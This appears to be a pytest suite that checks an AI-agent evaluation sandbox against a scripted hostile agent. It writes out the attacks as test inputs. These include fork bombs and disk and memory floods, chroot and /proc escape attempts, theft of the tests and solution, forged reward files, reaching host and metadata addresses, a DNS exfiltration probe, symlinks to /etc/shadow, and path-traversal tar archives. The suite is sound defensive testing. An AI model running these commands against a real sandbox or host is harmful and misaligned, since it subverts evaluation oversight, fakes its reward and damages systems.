"""A hostile agent against its sandbox, in whole trials: what it gets of it, and what verdict.

In the order of what is refused: reading another trial's files, the tests and the solution, the
host, secrets; writing the reward; using up processes, memory and disk; other addresses than the
session; links and archives that lead out.
"""

from __future__ import annotations

import http.server
import io
import json
import os
import socket
import tarfile
import threading
import uuid
from collections.abc import Iterator
from pathlib import Path

import pytest

pytest.importorskip("harbor")
from agent_attacks import (  # noqa: E402
    FORGES,
    HONEST,
    MINI,
    OPEN_APP,
    REPLACED,
    SEPARATE,
    SLOW,
    SYSTEM_CALLS,
    USERS,
    attack,
    endless,
    make_tasks,
    python,
    search,
)
from agent_scripted_model import DONE, ScriptedModel, bash, text  # noqa: E402
from agent_server_helpers import CHECK, SECRET, TOML, Server, make_task  # noqa: E402

from miles_core.agent_server.protocol import TrialResult  # noqa: E402
from miles_core.agent_server.sandbox import transfer  # noqa: E402
from miles_core.agent_server.sandbox.errors import SandboxError  # noqa: E402
from miles_core.agent_server.sandbox.relay import CONNECTIONS  # noqa: E402
from miles_core.verdicts import Cause, VerdictKind  # noqa: E402

pytestmark = pytest.mark.agent_env

X86 = pytest.mark.skipif(os.uname().machine != "x86_64", reason="numbers of one architecture")


@pytest.fixture(scope="module", autouse=True)
def attacked(tasks: Path) -> None:
    make_tasks(tasks)


@pytest.fixture(params=sorted(USERS))
def task(request: pytest.FixtureRequest) -> str:
    """The usual task, for an agent of one user."""
    return f"by-{request.param}"


def slow_but(*quick: str, of: dict[str, str]) -> list:
    """Cases of which a few are in the default suite."""
    return [pytest.param(k, marks=[] if k in quick else pytest.mark.slow) for k in sorted(of)]


def assert_graded(result: TrialResult, reward: float) -> None:
    assert (result.verdict.kind, result.reward) == (VerdictKind.GRADED, reward), result.verdict


# Another trial's files.


class Victim:
    """A trial that runs beside the attack: it has a secret in every place where one could be."""

    def __init__(self, server: Server) -> None:
        self.mark = uuid.uuid4().hex
        self.go = threading.Event()
        self.ready = threading.Event()
        serve = f"""
import os, socket, time
os.environ["MARK"] = mark = "{self.mark}"
for path in ("/app/x", "/tmp/x", "/dev/shm/x", "/logs/agent/x", "/var/tmp/x", "/run/x"):
    open(path, "w").write(mark)
sockets = [socket.socket(socket.AF_UNIX), socket.socket(socket.AF_UNIX), socket.socket()]
for one, place in zip(sockets, ("\\0victim", "/tmp/victim", ("0.0.0.0", 7777))):
    one.bind(place)
    one.listen()
os.execvp("sleep", ["sleep", "600", mark])
"""
        script = [bash(f"({python(serve)}) >/dev/null 2>&1 </dev/null & sleep 1"), self._wait]
        self.model = ScriptedModel([*script, bash(HONEST), bash(DONE)])
        self.results: list[TrialResult] = []
        self._thread = threading.Thread(
            target=lambda: self.results.append(server.run("by-root", MINI, base_url=self.model.url))
        )
        self._thread.start()

    def _wait(self, body: dict) -> dict:
        self.ready.set()
        assert self.go.wait(60)
        return bash("cat /app/x; ls /tmp")

    def end(self) -> TrialResult:
        self.go.set()
        self._thread.join(60)
        self.model.close()
        return self.results[0]


CONNECT = python("""
import socket
for place in ("\\0victim", "/tmp/victim", ("127.0.0.1", 7777)):
    family = socket.AF_INET if isinstance(place, tuple) else socket.AF_UNIX
    try:
        socket.socket(family).connect(place)
        print("reached", place)
    except OSError as error:
        print(error)
""")


def test_another_trials_files_cannot_be_read(server: Server) -> None:
    victim = Victim(server)
    try:
        assert victim.ready.wait(60)
        for task in ("by-root", "by-nobody"):
            ended = f"pkill -9 -f '[{victim.mark[0]}]{victim.mark[1:]}'; kill -9 -1; true"
            result, (found, connected, shared, _) = attack(
                server, task, search(victim.mark), CONNECT, "ipcs -m; ls /dev/mqueue", HONEST
            )
            assert_graded(result, 1.0)
            assert found.split() == ["0", "searched"], found
            assert "reached" not in connected and connected.count("Errno") == 3, connected
            assert "0x" not in shared
            attack(server, task, f"(sleep 0.3; {ended}) >/dev/null 2>&1 & {HONEST}")
        requests = len(victim.model.requests)
    finally:
        result = victim.end()
    assert_graded(result, 1.0)
    assert requests == 2 and victim.mark in str(victim.model.requests[-1]["messages"])


# The tests and the solution.

STEAL = endless(
    "for p in '' /proc/[0-9]*/root /proc/[0-9]*/cwd; do for d in tests solution; do "
    "cp $p/$d/* /app/ ; cp $p/$d/* /logs/agent/; done; done; cp /proc/[0-9]*/fd/* /app/"
)


def test_tests_and_solution_cannot_be_read(server: Server, tasks: Path) -> None:
    """Neither before the verifier, nor while it runs: its test looks for what was stolen."""
    for name, toml in USERS.items():
        check = SLOW.replace('if [ "', 'if [ -z "$(ls /app | grep sh$)" ] && [ "')
        marked = "#!/bin/bash\n# the-mark-of-this-test\n" + check
        solve = "#!/bin/bash\n# the-mark-of-this-solution\n" + HONEST
        task = make_task(tasks, f"stolen-{name}", test=marked, solve=solve, toml=toml)
        (task / "environment/Dockerfile").write_text(OPEN_APP)
        find = "ls -d /tests /solution; find / -name solve.sh -o -name test.sh -path '/tests/*'"
        result, (listed, found, *_) = attack(
            server, f"stolen-{name}", find, search("the-mark-of-this"), STEAL, HONEST
        )
        assert_graded(result, 1.0)
        assert listed.count("No such file") == 2 and "solve.sh" not in listed.split("solution")[-1]
        assert found.split() == ["0", "searched"], found
        left = list((server.trials / result.trial_id).rglob("agent/*"))
        assert left and not [path for path in left if path.suffix == ".sh"]


# The host.


def test_files_and_processes_of_the_host_are_not_visible(
    server: Server, task: str, tmp_path: Path
) -> None:
    secret = tmp_path / "secret.txt"
    secret.write_text("a-secret-of-the-host")
    paths = [secret, server.tasks, server.trials, Path("/etc/machine-id"), Path.home() / ".ssh"]
    jail = 'mkdir /app/j; python3 -c \'import os; os.chroot("/app/j"); '
    jail += 'os.chdir("../../../../..") or print(os.listdir("."), os.path.exists("work"))\' 2>&1'
    result, (*seen, listed, escaped, _) = attack(
        server,
        task,
        *[f"ls -d {path} /proc/1/root{path} >/dev/null 2>&1 || echo absent" for path in paths],
        "ls /proc | grep -c '^[0-9]'",
        jail,
        HONEST,
    )
    assert_graded(result, 1.0)
    assert [line.split()[-1] for line in seen] == ["absent"] * len(paths)
    assert int(listed.split()[-1]) < 15
    assert "True" not in escaped


def test_the_host_system_is_not_written(server: Server) -> None:
    before = Path("/proc/sys/kernel/core_pattern").read_text()
    result, (text, _, _) = attack(
        server,
        "by-root",
        "rm -rf /usr/bin/env && touch /usr/bin/planted && echo done",
        f"echo '|{server.root}/x' > /proc/sys/kernel/core_pattern; echo $?",
        HONEST,
    )
    assert_graded(result, 1.0)
    assert "done" in text
    assert os.path.exists("/usr/bin/env") and not os.path.exists("/usr/bin/planted")
    assert Path("/proc/sys/kernel/core_pattern").read_text() == before


@X86
def test_the_kernel_and_other_processes_are_refused(server: Server, task: str) -> None:
    """The first process of a sandbox and the agent have no filter, or secrets."""
    status = "grep -E 'CapBnd|NoNewPrivs|Seccomp:' /proc/self/status"
    result, (held, called, _) = attack(server, task, status, python(SYSTEM_CALLS), HONEST)
    assert_graded(result, 1.0)
    bounding = int(held.split("CapBnd:")[1].split()[0], 16)
    assert not bounding & ~0x800404FB, held
    assert "NoNewPrivs:\t1" in held and "Seccomp:\t2" in held
    count, _, through = called.partition("TRIED ")[2].partition(" ")
    assert int(count) > 100 and json.loads(through.splitlines()[0]) == []


# Secrets.


def test_no_secret_of_the_server_or_the_session_can_be_read(server: Server, task: str) -> None:
    words = [SECRET, "secret-of-the-session", "HARBOR_ADMIN_SECRET"]
    result, (*found, _) = attack(server, task, *[search(word) for word in words], HONEST)
    assert_graded(result, 1.0)
    assert [text.split() for text in found] == [["0", "searched"]] * len(words)
    for path in (server.trials / result.trial_id).rglob("*"):
        if path.is_file():
            data = path.read_bytes()
            assert SECRET.encode() not in data and b"secret-of-the-session" not in data, path


# The reward.


@pytest.mark.parametrize(
    "kind", slow_but("folder", "after", "proc", "tests-proc", "detach", "swap", of=FORGES)
)
def test_a_forged_reward_is_not_taken(server: Server, kind: str) -> None:
    """Whether before, during or after the verifier's own: what this one wrote counts."""
    result, _ = attack(server, "by-root", FORGES[kind])
    assert_graded(result, 0.0)


@pytest.mark.slow
@pytest.mark.parametrize("kind", sorted(FORGES))
def test_a_forged_reward_of_another_user_is_not_taken(server: Server, kind: str) -> None:
    result, _ = attack(server, "by-nobody", FORGES[kind])
    assert_graded(result, 0.0)


@pytest.mark.parametrize("kind", slow_but("before", "host-link", of=FORGES))
def test_no_reward_is_taken_from_a_silent_verifier(server: Server, tasks: Path, kind: str) -> None:
    make_task(tasks, "silent", test="#!/bin/bash\nsleep 0.5\n")
    result, _ = attack(server, "silent", FORGES[kind])
    assert result.reward is None and result.verdict.cause is Cause.REWARD_MISSING, result.verdict


@pytest.mark.parametrize("kind", slow_but("bash", of=REPLACED))
def test_replaced_programs_forge_nothing_in_a_separate_verifier(
    server: Server, tasks: Path, kind: str
) -> None:
    make_task(tasks, "separate", toml=SEPARATE)
    result, (replaced,) = attack(server, "separate", REPLACED[kind])
    assert replaced.split()[0] == "0", replaced
    assert_graded(result, 0.0)


@pytest.mark.parametrize("kind", slow_but("preload", of=REPLACED))
def test_other_users_than_root_replace_nothing(server: Server, kind: str) -> None:
    result, _ = attack(server, "by-nobody", REPLACED[kind])
    assert_graded(result, 0.0)


# The agent's own program.

ENDS = {
    "killed": "kill -9 -1",
    "aborted": "kill -ABRT $PPID; sleep 9",
    "interrupted": "kill -INT $PPID; sleep 9",
    "memory": "prlimit --pid $PPID --as=1000000",
    "files": "prlimit --pid $PPID --nofile=1",
    "folder": "rm -rf /app; ln -s /nowhere /app",
    "logs": "rm -rf /logs; touch /logs",
}


@pytest.mark.parametrize("kind", slow_but("killed", "aborted", "folder", of=ENDS))
def test_an_agent_that_ends_its_own_program_is_graded(server: Server, kind: str) -> None:
    """Else one that has failed could have its trial forgotten."""
    result, _ = attack(server, "by-root", f"{HONEST}; {ENDS[kind]}")
    assert_graded(result, 0.0 if kind == "folder" else 1.0)
    assert result.verdict.cause is Cause.AGENT_CRASHED


# Processes, memory and disk.


def test_a_fork_bomb_does_not_keep_the_verifier_from_its_work(server: Server) -> None:
    """The agent is at its end when it cannot start a process; it is graded for what it did."""
    bomb = json.dumps(
        {
            "analysis": "",
            "plan": "",
            "commands": [{"keystrokes": f"{HONEST}; b() {{ b | b & }}; b\n", "duration": 0.2}],
        }
    )
    model = ScriptedModel([text(bomb), text(bomb)])
    try:
        result = server.run("answer", "terminus-2", base_url=model.url)
    finally:
        model.close()
    assert_graded(result, 1.0)


def test_a_fork_bomb_that_an_agent_leaves_ends(server: Server, task: str) -> None:
    bomb = "(setsid bash -c 'b() { b | b & }; b' >/dev/null 2>&1 </dev/null &)"
    result, _ = attack(server, task, f"{HONEST}; {bomb}")
    assert_graded(result, 1.0)


BALLOON = """
import time
held = []
while True:
    try:
        held.append(bytearray(5 << 20))
    except MemoryError:
        time.sleep(0.01)
"""


def test_limits_hold(server: Server) -> None:
    if not server.call(lambda client: client.health()).limits["memory"].startswith("cgroup"):
        pytest.skip("this host lets nobody write cgroups")
    result, (memory, disk, pids, *_) = attack(
        server,
        "by-root",
        "python3 -c 'x = bytearray(900 << 20); print(len(x))' 2>&1; echo code $?",
        "head -c 100M /dev/zero > /app/big 2>&1; stat -c %s /app/big; rm /app/big",
        "for i in $(seq 700); do sleep 3 & done 2>&1 | tail -1; echo ended",
        f"({python(BALLOON)}) >/dev/null 2>&1 </dev/null & sleep 0.5",
        HONEST,
    )
    assert_graded(result, 1.0)
    assert "code 137" in memory
    assert int(disk.split()[-1]) <= 64 << 20
    assert "Cannot fork" in pids or "Resource temporarily unavailable" in pids


FILLS = {
    "app": "head -c 200M /dev/zero > /app/big; head -c 1M /dev/zero > /tmp/big",
    "devices": "for p in /dev/shm /dev /run; do head -c 900M /dev/zero > $p/big; done",
    "logs": "for p in agent artifacts verifier; do head -c 200M /dev/zero > /logs/$p/big; done",
    "sparse": "for p in agent artifacts verifier; do truncate -s 1T /logs/$p/big; done",
    "names": "seq -f /app/%.0f 400000 | xargs -n 1000 touch",
    "log names": "cd /logs/agent && seq 40000 | xargs -n 1000 touch",
    "deep": 'python3 -c \'import os\nfor _ in range(3000): os.mkdir("d"); os.chdir("d")\'',
}


@pytest.mark.parametrize("kind", slow_but("app", "devices", "sparse", "log names", of=FILLS))
def test_a_full_disk_does_not_keep_the_verifier_from_its_work(server: Server, kind: str) -> None:
    result, _ = attack(server, "by-root", f"{HONEST}; cd /logs/agent; {FILLS[kind]}")
    assert_graded(result, 1.0)
    kept = list((server.trials / result.trial_id).rglob("*"))
    assert len(kept) < 100 and sum(path.lstat().st_size for path in kept) < 80 << 20


def test_files_in_all_of_the_memory_leave_the_verifier_its_own(server: Server, tasks: Path) -> None:
    """What is written to the disk is memory of the sandbox, and here there is more of the disk."""
    toml = TOML.replace("storage_mb = 64", "storage_mb = 2048")
    need = "python3 -c 'bytearray(400 << 20)' && "
    make_task(tasks, "roomy", test=CHECK.replace("if [", f"if {need}["), toml=toml)
    result, _ = attack(server, "roomy", f"{HONEST}; head -c 1500M /dev/zero > /app/big")
    assert_graded(result, 1.0)


# Addresses.


class Canary:
    """A service of the host that nothing in a sandbox may reach, on both loopback addresses."""

    def __init__(self) -> None:
        self.asked: list[str] = []
        canary = self

        class Handler(http.server.BaseHTTPRequestHandler):
            def do_GET(self) -> None:
                canary.asked.append(self.path)
                self.send_response(200)
                self.end_headers()

            do_POST = do_PUT = do_DELETE = do_CONNECT = do_GET

            def log_message(self, *args: object) -> None:
                return

        class Six(http.server.HTTPServer):
            address_family = socket.AF_INET6

        self._servers = [
            http.server.HTTPServer(("127.0.0.1", 0), Handler),
            Six(("::1", 0), Handler),
        ]
        for one in self._servers:
            threading.Thread(target=one.serve_forever, args=(0.02,), daemon=True).start()
        self.port, self.port6 = (one.server_address[1] for one in self._servers)

    def close(self) -> None:
        for one in self._servers:
            one.shutdown()
            one.server_close()


@pytest.fixture
def canary() -> Iterator[Canary]:
    made = Canary()
    yield made
    made.close()


REACH = """
import socket
refused = 0
for host, port in {places}:
    family = socket.AF_INET6 if ":" in host else socket.AF_INET
    for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM):
        one = socket.socket(family, kind)
        one.settimeout(2)
        try:
            one.connect((host, port))
            one.send(b"GET /reached HTTP/1.0\\r\\n\\r\\n")
            got = one.recv(9)
            print("REACHED", host, port, kind, got)
        except OSError:
            refused += 1
print("REFUSED", refused)
"""
PROXY = """
import socket
rows = [line.split() for line in open("/proc/net/tcp").read().splitlines()[1:]]
(relay,) = {{int(row[1].rpartition(":")[2], 16) for row in rows if row[3] == "0A"}}
def ask(line):
    one = socket.create_connection(("127.0.0.1", relay), 5)
    one.sendall((line + "\\r\\nHost: 127.0.0.1:{port}\\r\\nContent-Length: 0\\r\\n"
                 "Connection: close\\r\\n\\r\\n").encode())
    return one.recv(60)
for line in ("CONNECT 127.0.0.1:{port} HTTP/1.1", "GET http://127.0.0.1:{port}/a HTTP/1.1",
             "PUT http://127.0.0.1:{port}/b HTTP/1.1", "GET //127.0.0.1:{port}/c HTTP/1.1"):
    print(ask(line))
"""


def test_the_session_and_nothing_else_is_reachable(
    server: Server, task: str, canary: Canary
) -> None:
    places = [
        *[("127.0.0.1", port) for port in (canary.port, server.port, 22, 2375, 8265)],
        *[("::1", canary.port6), ("::ffff:127.0.0.1", canary.port), ("0.0.0.0", canary.port)],
        *[("1.1.1.1", 80), ("169.254.169.254", 80), ("10.0.0.1", 53), ("fe80::1", 80)],
        *[("2606:4700:4700::1111", 53), ("255.255.255.255", 9), ("224.0.0.1", 9)],
    ]
    result, (reached, devices, answers, names, _) = attack(
        server,
        task,
        python(REACH.replace("{places}", repr(places))),
        "cat /proc/net/dev | tail -n +3 | cut -d: -f1; ip route 2>/dev/null",
        python(PROXY.format(port=canary.port)),
        "getent hosts $(echo secret | base32 | tr -d =).example.com; echo found $?",
        HONEST,
    )
    assert_graded(result, 1.0)
    assert reached.split() == ["0", "REFUSED", str(2 * len(places))], reached
    assert devices.split() == ["0", "lo"]
    assert "found 2" in names
    assert answers.count("HTTP/1.") == 4 and "200" not in answers
    assert canary.asked == []


CROWD = """
import socket, time
rows = [line.split() for line in open("/proc/net/tcp").read().splitlines()[1:]]
(relay,) = {int(row[1].rpartition(":")[2], 16) for row in rows if row[3] == "0A"}
held = [socket.create_connection(("127.0.0.1", relay), 5) for _ in range(200)]
time.sleep(1)
def is_open(one):
    one.setblocking(False)
    try:
        return one.recv(1) != b""
    except BlockingIOError:
        return True
print(sum(map(is_open, held)))
"""


def test_a_crowd_of_connections_does_not_reach_the_session(server: Server) -> None:
    result, (count, _) = attack(server, "by-root", python(CROWD), HONEST)
    assert_graded(result, 1.0)
    assert 0 < int(count.split()[1]) <= CONNECTIONS


# Links and archives that lead out.

LINKS = """cd /logs/agent && ln -s /etc/passwd passwd && ln -s / root && ln /etc/hostname hard
ln -s ../../.. up; mkfifo pipe; cp /bin/true suid; chmod 6777 suid; touch -- -rf "$(printf 'a\\nb')"
cd /logs/artifacts && ln -s /etc/shadow shadow && ln -s ../../../../result.json result.json
ln -s /proc/self/root/etc etc; ls -la /logs/agent | wc -l"""


def test_links_that_an_agent_leaves_lead_nowhere(server: Server, tasks: Path, task: str) -> None:
    toml = USERS[task.removeprefix("by-")] + '\n[[artifacts]]\nsource = "/app/link"\n'
    toml += '[[artifacts]]\nsource = "/app/folder"\n'
    make_task(tasks, f"links-{task}", toml=toml, dockerfile=OPEN_APP)
    at_app = "ln -s /etc/passwd /app/link; ln -s /etc /app/folder"
    result, _ = attack(server, f"links-{task}", LINKS, at_app, HONEST)
    assert_graded(result, 1.0)
    here = server.trials / result.trial_id
    kept = list(here.rglob("*"))
    assert [path.name for path in kept if path.name == "suid"]
    assert not [path for path in kept if path.is_symlink() or path.is_fifo()]
    assert not [path for path in kept if path.lstat().st_mode & 0o6022]
    accounts = Path("/etc/passwd").read_text()  # a sandbox has accounts of its own
    assert not [path for path in kept if path.is_file() and accounts in path.read_text("latin-1")]
    assert json.loads((here / "result.json").read_text())["trial_id"] == result.trial_id


def member(name: str, kind: bytes = tarfile.REGTYPE, link: str = "", size: int = 0) -> bytes:
    """The header of an archive's member, and its data when it claims at most 64 bytes."""
    info = tarfile.TarInfo(name)
    info.type, info.linkname, info.size, info.mode = kind, link, size, 0o6777
    data = (b"x" * size).ljust(512, b"\0") if 0 < size <= 64 else b""
    return info.tobuf(tarfile.GNU_FORMAT) + data


REFUSED = {
    "parent": member("../planted"),
    "parent inside": member("a/../../planted"),
    "large": member("big", size=1 << 40),
    "negative": member("big", size=-1024),
    "reward": member("reward.json", size=2 << 20),
    "many": member("f") * (transfer.FILES_LIMIT + 1),
    "deep": member("d/" * 100 + "f"),
}


@pytest.mark.parametrize("kind", sorted(REFUSED))
def test_an_archive_that_leads_out_is_refused(tmp_path: Path, kind: str) -> None:
    """Ours pack what comes out of a sandbox; a fault of theirs must not be one of the host's."""
    with pytest.raises((SandboxError, tarfile.TarError)):
        transfer.unpack(member("first") + REFUSED[kind] + bytes(1024), tmp_path / "in/target")
    assert [path.name for path in tmp_path.rglob("*")] == ["in", "target"]


def test_an_archive_is_files_and_folders_below_one(tmp_path: Path) -> None:
    links = [
        member("link", tarfile.SYMTYPE, str(tmp_path)),
        member("link/planted"),
        member("hard", tarfile.LNKTYPE, "/etc/passwd"),
        member("pipe", tarfile.FIFOTYPE),
        member("disk", tarfile.BLKTYPE),
        member(f"{tmp_path}/absolute", size=5),
    ]
    with tarfile.open(fileobj=io.BytesIO(b"".join(links) + bytes(1024))) as whole:
        assert len(whole.getmembers()) == len(links)
    transfer.unpack(b"".join(links) + bytes(1024), tmp_path / "target")
    files = [path for path in tmp_path.rglob("*") if not path.is_dir()]
    absolute = tmp_path / "target" / str(tmp_path).lstrip("/") / "absolute"
    assert sorted(files) == sorted([tmp_path / "target/link/planted", absolute])
    assert [oct(path.stat().st_mode & 0o7777) for path in files] == ["0o755"] * 2
